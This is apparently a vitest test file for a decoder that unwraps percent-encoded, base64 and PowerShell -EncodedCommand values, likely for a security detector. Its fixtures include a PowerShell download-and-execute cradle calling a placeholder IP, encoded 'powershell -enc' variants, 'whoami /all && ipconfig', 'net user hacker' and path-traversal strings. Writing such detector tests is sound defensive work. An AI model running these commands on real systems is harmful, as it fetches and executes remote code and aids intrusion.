import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { decodedForms } from './decoded-forms.ts'

const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64')
const COMMAND = 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a")'

describe('the decoded forms of a value', () => {
  it('have its percent-encoding taken off, also where it was put on twice', () => {
    expect(decodedForms('/owa/%2e%2e/x%20y?a=M%C3%BCller')).toEqual([
      { how: 'url', text: '/owa/../x y?a=Müller' },
    ])
    expect(decodedForms('%252e%252e%255c')).toEqual([{ how: 'url', text: '..\\' }])
  })

  it('leave percents alone that encode no text', () => {
    expect(decodedForms('100%ff sure, 5%')).toEqual([])
  })

  it.each(['-EncodedCommand', '-enc', '-e', '/Enc', '-ec', '\u2013enc'])(
    'are the command behind %s, which is UTF-16',
    (option) => {
      const value = `powershell.exe -NoP ${option} ${base64(COMMAND, 'utf16le')}`
      expect(decodedForms(value)).toEqual([{ how: 'powershell', text: COMMAND }])
    },
  )

  it('are found behind percent-encoding and in a query', () => {
    const value = `cmd=powershell+-enc+${encodeURIComponent(base64(COMMAND, 'utf16le'))}`
    expect(decodedForms(value)).toContainEqual({ how: 'powershell', text: COMMAND })
    expect(decodedForms(`?q=${base64('whoami /all && ipconfig')}&x=1`)).toEqual([
      { how: 'base64', text: 'whoami /all && ipconfig' },
    ])
    expect(decodedForms(base64('net user hacker', 'utf16le'))).toEqual([
      { how: 'base64-utf-16', text: 'net user hacker' },
    ])
  })

  it.each([
    'd41d8cd98f00b204e9800998ecf8427e',
    '50ceebb6-bb84-4e55-aee8-7967ab5791c7',
    'ExchangeServicesClient/0.0.0.0',
    'Microsoft-Server-ActiveSync/default.eas',
    '/ecp/DDI/DDIService.svc/SetObject',
    'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth',
    'AAAAAAAAAAAAAAAAAAAAAAAA',
    'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36',
    '',
  ])('are none for %s', (value) => {
    expect(decodedForms(value)).toEqual([])
  })

  it('are few and bounded, whatever the value is', () => {
    const many = Array.from({ length: 50 }, (_, i) => base64(`the text number ${i}`)).join(' ')
    expect(decodedForms(many)).toHaveLength(6)
    for (const { text } of decodedForms(base64('a b '.repeat(200_000))))
      expect(text.length).toBeLessThan(64_001)
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (value) => {
        const forms = decodedForms(value)
        expect(forms.length).toBeLessThanOrEqual(6)
        expect(forms.map(({ text }) => text)).not.toContain(value)
      }),
    )
  })
})
